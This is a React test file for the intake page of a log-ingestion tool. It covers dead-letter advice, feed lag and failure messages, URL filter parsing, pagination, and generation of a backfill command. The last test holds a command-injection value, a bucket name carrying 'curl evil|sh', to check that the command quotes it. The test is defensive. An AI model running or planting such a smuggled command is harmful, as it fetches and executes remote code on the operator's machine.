// What a feed, a file or a letter is has words that say what to do; filters are in the address.

import { render, screen } from "@testing-library/react";
import { MemoryRouter } from "react-router";
import { afterEach, describe, expect, it, vi } from "vitest";

import { type Reply, replies } from "../../testing/replies";
import { adviceOf, letterCommand } from "./advice";
import { feedAdvice, hourRange, lagText } from "./config";
import { tokensOf, viewOf } from "./filter";
import type { Feed } from "./hooks";
import { Intake } from "./page";
import { viewSchema } from "./view";

const counts = { recorded: 1272, duplicates: 97, conflicts: 0, refused: 0 };
const sums = {
  files: { known: 576, announced: 572, listed: 285, named: 575, read: 571, dead: 1, missing: 4 },
  events: counts,
  hours: 576,
  gaps: 4,
  altered: 0,
  deadLetters: 3,
  digests: { valid: 0, unchecked: 575, broken: 0, missing: 1 },
};
const feed: Feed = {
  name: "main",
  kind: "queue",
  source: "https://sqs.eu-west-1.amazonaws.com/111122223333/trail",
  state: "following",
  files: 416,
  known: 0,
  deadLetters: 3,
  events: counts,
};

afterEach(() => vi.unstubAllGlobals());

function show(by: Record<string, Reply>, at = "/intake") {
  const requests = replies({ "/v1/intake": sums, ...by });
  render(
    <MemoryRouter initialEntries={[at]}>
      <Intake />
    </MemoryRouter>,
  );
  return requests;
}

describe("what to do about a letter", () => {
  const object = { bucket: "logs", key: "a/b.json.gz" };
  it.each([
    ["a message of others", { reason: "the message is not JSON", body: "hello" }, /none of those/],
    ["a damaged file", { ...object, reason: "gzip data is truncated" }, /damaged/],
    ["a file that is gone", { ...object, reason: "NoSuchKey: it is gone" }, /back-fill/],
    ["one that may not be read", { ...object, reason: "AccessDenied" }, /s3:GetObject/],
    ["an altered one", { ...object, reason: "it is not what the digest names" }, /changed/],
    ["anything else", { ...object, reason: "something" }, /Mend what the reason names/],
  ])("%s", (_, letter, advice) => expect(adviceOf(letter)).toMatch(advice));

  it("reads its folder again", () => {
    expect(letterCommand(object, "http://x")).toBe(
      "opentrail intake backfill s3://logs/a --endpoint http://x",
    );
    expect(letterCommand({}, "http://x")).toBeNull();
  });
});

it.each<[Partial<Feed>, string]>([
  [{}, ""],
  [
    { waiting: 1200, inFlight: 3, lagSeconds: 61.2 },
    "1,200 waiting, 3 in work, last 1 min 1 s late",
  ],
])("says how late a feed is: %j", (change, text) => {
  expect(lagText({ ...feed, ...change })).toBe(text);
});

it.each<[Partial<Feed>, RegExp]>([
  [{ state: "failing", failure: "QueueDoesNotExist: no queue" }, /Correct the feed's queue/],
  [{ state: "failing", failure: "AccessDenied" }, /credentials/],
  [{ state: "failing", failure: "no answer" }, /by itself/],
  [{ state: "starting", kind: "notices" }, /webhook/],
  [{}, /^$/],
])("says what to do about a feed: %j", (change, advice) => {
  expect(feedAdvice({ ...feed, ...change })).toMatch(advice);
});

it("has the whole filter in the address, and nothing that makes no sense", () => {
  const view = viewSchema.parse({ tab: "files", state: "dead", account: "1", from: "2026-01-02" });
  expect(viewOf(tokensOf(view, true))).toMatchObject({
    state: "dead",
    account: "1",
    from: "2026-01-02",
    to: "",
  });
  expect(viewSchema.parse({ tab: "nonsense", state: "nonsense", from: "yesterday" })).toMatchObject(
    {
      tab: "feeds",
      state: "",
      from: "",
    },
  );
  expect(hourRange("2026-01-02T03:00:00Z")).toEqual({
    from: "2026-01-02T03:00:00Z",
    to: "2026-01-02T03:59:59Z",
  });
});

it("shows the feeds with what is wrong", async () => {
  const failure = "QueueDoesNotExist: the queue is gone";
  const failingSince = "2026-01-02T03:04:05Z";
  const failing: Feed = { ...feed, name: "old", state: "failing", failure, failingSince };
  show({ "/v1/intake/feeds": { feeds: [feed, failing] } });
  expect(await screen.findByText("Following")).toBeTruthy();
  expect(screen.getByText(/the queue is gone/)).toBeTruthy();
  expect(screen.getByText("4 files, 1 digest")).toBeTruthy();
});

it("teaches where nothing is followed", async () => {
  show({ "/v1/intake/feeds": { feeds: [] } });
  expect(await screen.findByText("This server follows nothing")).toBeTruthy();
});

it("asks the server for the files that fit, and goes on where a page ended", async () => {
  const page = (after: string | undefined) => ({
    files: [{ bucket: "logs", key: `a/${after ?? "first"}.json.gz`, kind: "log", state: "dead" }],
    ...(after ? {} : { after: "second" }),
  });
  const requests = show(
    {
      "/v1/intake/places": { places: [] },
      "/v1/intake/files": ({ after }: Record<string, string>) => page(after),
    },
    "/intake?tab=files&state=dead&account=111122223333",
  );
  expect(await screen.findByText(/first.json.gz/)).toBeTruthy();
  screen.getByRole("button", { name: "Show more" }).click();
  expect(await screen.findByText(/second.json.gz/)).toBeTruthy();
  const asked = requests
    .map(({ url }) => new URL(url))
    .filter((url) => url.pathname.endsWith("files"));
  expect(asked.map(({ searchParams }) => searchParams.get("after"))).toEqual([null, "second"]);
  expect(asked.every(({ searchParams }) => searchParams.get("state") === "dead")).toBe(true);
});

it("quotes a bucket's name in the command that reads it", async () => {
  const bucket = "b; curl evil|sh #";
  show(
    {
      "/v1/intake/places": { places: [] },
      "/v1/intake/gaps": { files: [{ bucket, key: "a.json.gz", kind: "log" }], digests: [] },
    },
    "/intake?tab=gaps",
  );
  const command = await screen.findByText(/opentrail intake backfill/);
  expect(command.textContent).toContain(`backfill 's3://${bucket}/' --endpoint`);
});
